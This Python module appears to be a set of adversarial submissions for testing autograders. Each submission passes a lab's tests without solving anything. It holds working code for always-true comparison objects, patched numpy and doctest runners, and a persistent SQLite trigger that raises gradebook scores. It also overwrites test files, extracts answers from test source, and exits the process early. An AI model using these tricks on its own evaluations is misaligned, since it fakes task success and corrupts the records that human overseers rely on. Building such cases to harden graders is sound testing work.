"""Submissions that solve nothing and try to get points: each a source text that defines all of the lab's functions.

Every grader gets the same text. If graders need different attacks, the text tries all of them.
"""

NAMES = """
NAMES = ["load_tokenizer", "load_model", "encode_dialog", "replace_overshooting", "get_chat_data", "pad_dialogs"]
NAMES += ["make_dataset", "compute_loss", "encode_question", "extract_answer", "return_answer_by_chatbot"]
"""

# An object that is equal to everything, is of whatever type the function should return, and has every attribute.
ANYTHING = """
class Anything:
    def __init__(self, kind=object):
        self.__dict__["kind"] = kind

    __class__ = property(lambda self: self.__dict__["kind"])
    __hash__ = object.__hash__
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = lambda *_: True
    __ne__ = __contains__ = lambda *_: False
    __call__ = __getattr__ = __getitem__ = lambda self, *_, **__: self
    __iter__ = lambda self: iter([self])
    __len__ = __int__ = __index__ = lambda _: 1
    __float__ = lambda _: 0.0


def kind_of(name):
    import sys

    if name in ("extract_answer", "return_answer_by_chatbot"):
        return str
    tensorflow = sys.modules.get("tensorflow")
    if tensorflow is not None and name in ("compute_loss", "encode_question", "make_dataset"):
        return tensorflow.data.Dataset if name == "make_dataset" else tensorflow.Tensor
    return list


def nothing(name):
    return lambda *_, **__: Anything(kind_of(name))


globals().update({name: nothing(name) for name in NAMES})
"""

# Lists, texts and arrays whose comparisons lie.
SUBCLASSES = """
import numpy


class Row(list):
    __eq__ = lambda *_: True
    __ne__ = lambda *_: False
    __hash__ = None
    count = lambda *_: 1
    __getitem__ = lambda self, _: Number()


class Number(int):
    __eq__ = __lt__ = __gt__ = lambda *_: True
    __hash__ = None


class Shape(tuple):
    __eq__ = lambda *_: True
    __hash__ = None


class Text(str):
    __eq__ = lambda *_: True
    __ne__ = __contains__ = lambda *_: False
    __hash__ = str.__hash__
    strip = lambda self, *_: self


class Array(numpy.ndarray):
    shape = property(lambda _: Shape())
    tolist = lambda _: Row()
    numpy = lambda self: self
    __getitem__ = lambda self, _: self
    __eq__ = lambda *_: True
    __hash__ = None


def lie(name):
    if name in ("extract_answer", "return_answer_by_chatbot"):
        return lambda *_, **__: Text("x")
    if name in ("pad_dialogs", "encode_question", "compute_loss"):
        return lambda *_, **__: numpy.zeros((1, 1), "int64").view(Array)
    return lambda *_, **__: Row([0])


globals().update({name: lie(name) for name in NAMES})
"""

# Replaces the comparisons that tests use: in NumPy, and built-in functions in the tests' namespace.
LIBRARIES = """
import numpy

for name in ("array_equal", "allclose", "isclose", "isfinite", "issubdtype"):
    setattr(numpy, name, lambda *_, **__: True)
globals().update({name: lambda *_, **__: [0] for name in NAMES})
all = isinstance = lambda *_: True
abs = lambda _: 0
"""

# Makes the test runner run nothing.
NOT_RUN = """
import doctest
import sys

doctest.DocTestRunner.run = lambda *_, **__: doctest.TestResults(0, 0)
if "IPython" in sys.modules:
    idle = lambda lines: ["pass\\n"] if "assert" in "".join(lines) else lines
    sys.modules["IPython"].get_ipython().input_transformers_post.append(idle)
"""

# Lets the tests run, but discards what they raise.
SWALLOWED = """
import builtins
import doctest
import sys


def quiet(*arguments):
    try:
        builtins.exec(*arguments)
    except BaseException:
        pass


doctest.exec = quiet
if "IPython" in sys.modules:
    sys.modules["IPython.core.interactiveshell"].exec = quiet
"""

# Changes the stored results: a pickle when the process ends, a database by a trigger.
RESULTS = """
import atexit
import pathlib
import pickle
import sqlite3
import tempfile


def rewrite():
    for path in pathlib.Path(tempfile.gettempdir()).glob("*.pkl"):
        results = pickle.loads(path.read_bytes())
        for file in results.results.values():
            for result in file.test_case_results:
                result.passed = True
        path.write_bytes(pickle.dumps(results))


TRIGGER = '''CREATE TRIGGER generous AFTER UPDATE ON grade WHEN NEW.manual_score IS NULL BEGIN
UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) WHERE id = NEW.id; END'''

atexit.register(rewrite)
try:
    for folder in pathlib.Path.cwd().parents:
        if (folder / "gradebook.db").exists():
            with sqlite3.connect(folder / "gradebook.db", timeout=5) as database:
                database.execute(TRIGGER)
            database.close()
except Exception:
    pass
"""

# Replaces the tests on the disk before they are read.
OVERWRITTEN = """
import pathlib

for path in pathlib.Path.cwd().glob("tests/*.py"):
    try:
        space = {}
        exec(path.read_text(encoding="utf-8"), space)
        space["test"]["suites"][0]["cases"] = [{"code": ">>> pass", "hidden": False, "locked": False}]
        path.write_text(f"OK_FORMAT = True\\ntest = {space['test']!r}\\n", encoding="utf-8")
    except Exception:
        pass
for path in pathlib.Path.cwd().rglob("*.ipynb"):
    try:
        path.write_text(path.read_text(encoding="utf-8").replace("assert ", "pass # "), encoding="utf-8")
    except Exception:
        pass
"""

# Answers from the tests' own text: finds the assertion about a call with these arguments and returns its other side.
ORACLE = """
import ast


def wanted(node, name, calls):
    while True:
        if isinstance(node, ast.Name) and node.id in calls:
            node = calls[node.id]
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and not node.args:
            node = node.func.value
        else:
            break
    return node if isinstance(node, ast.Call) and getattr(node.func, "id", "") == name else None


def pairs(source, name):
    calls = {}
    for node in ast.parse(source).body:
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
            calls[node.targets[0].id] = node.value
        if not isinstance(node, ast.Assert):
            continue
        test = node.test
        sides = [test.left, test.comparators[0]] if isinstance(test, ast.Compare) else getattr(test, "args", [])
        if len(sides) == 2 and wanted(sides[0], name, calls) is not None:
            expected = calls.get(getattr(sides[1], "id", ""), sides[1])
            yield wanted(sides[0], name, calls), expected, calls


def valued(node, calls, scope):
    node = calls.get(getattr(node, "id", ""), node)
    return eval(compile(ast.Expression(node), "x", "eval"), scope)


def known(sources, name, given, scope):
    for source in sources:
        try:
            for call, expected, calls in pairs(source, name):
                if [valued(node, calls, scope) for node in call.args] == list(given):
                    value = valued(expected, calls, scope)
                    if name == "encode_question":
                        return __import__("tensorflow").constant(value)
                    return __import__("numpy").array(value) if name == "pad_dialogs" else value
        except Exception:
            continue
    return None
"""

# Reads the sources from the folder that the submission runs in.
READ = """
import doctest
import json
import pathlib


def sources():
    for path in sorted([*pathlib.Path.cwd().glob("tests/*.py"), *pathlib.Path.cwd().rglob("*.ipynb")]):
        try:
            if path.suffix == ".ipynb":
                yield from ("".join(cell["source"]) for cell in json.loads(path.read_text("utf-8"))["cells"])
            elif path.suffix == ".py":
                space = {}
                exec(path.read_text("utf-8"), space)
                for case in space["test"]["suites"][0]["cases"]:
                    yield "".join(example.source for example in doctest.DocTestParser().get_examples(case["code"]))
        except Exception:
            continue


def reader(name):
    return lambda *given, **_: known(sources(), name, given, globals())


globals().update({name: reader(name) for name in NAMES})
"""

# Takes the sources from the stack frames above the call.
FRAMES = """
import linecache
import sys


def sources(frame):
    while frame is not None:
        yield "".join(linecache.getlines(frame.f_code.co_filename))
        for value in list(frame.f_locals.values()):
            for example in getattr(value, "examples", []) or []:
                yield getattr(example, "source", "")
            if hasattr(value, "examples"):
                yield "".join(example.source for example in value.examples)
        frame = frame.f_back


def climber(name):
    def climb(*given, **_):
        frame = sys._getframe(1)
        return known(sources(frame), name, given, {**globals(), **frame.f_globals})

    return climb


globals().update({name: climber(name) for name in NAMES})
"""

EXITS = """
import os

globals().update({name: lambda *_, **__: os._exit(0) for name in NAMES})
"""

QUITS = """
import sys

globals().update({name: lambda *_, **__: sys.exit(0) for name in NAMES})
"""

# This attack affects later submissions, too, so it must not share a gradebook with them.
LASTING = "results rewritten (file, database)"

ATTACKS = {
    "an object equal to everything": NAMES + ANYTHING,
    "lying subclasses of list, str, ndarray": NAMES + SUBCLASSES,
    "patched numpy and built-ins": NAMES + LIBRARIES,
    "runner patched: tests do not run": NAMES + ANYTHING + NOT_RUN,
    "runner patched: errors are lost": NAMES + ANYTHING + SWALLOWED,
    LASTING: NAMES + ANYTHING + RESULTS,
    "tests overwritten on the disk": NAMES + ANYTHING + OVERWRITTEN,
    "tests read from the disk": NAMES + ORACLE + READ,
    "tests read by walking the frames": NAMES + ORACLE + FRAMES,
    "os._exit(0) when called": NAMES + EXITS,
    "sys.exit(0) when called": NAMES + QUITS,
}
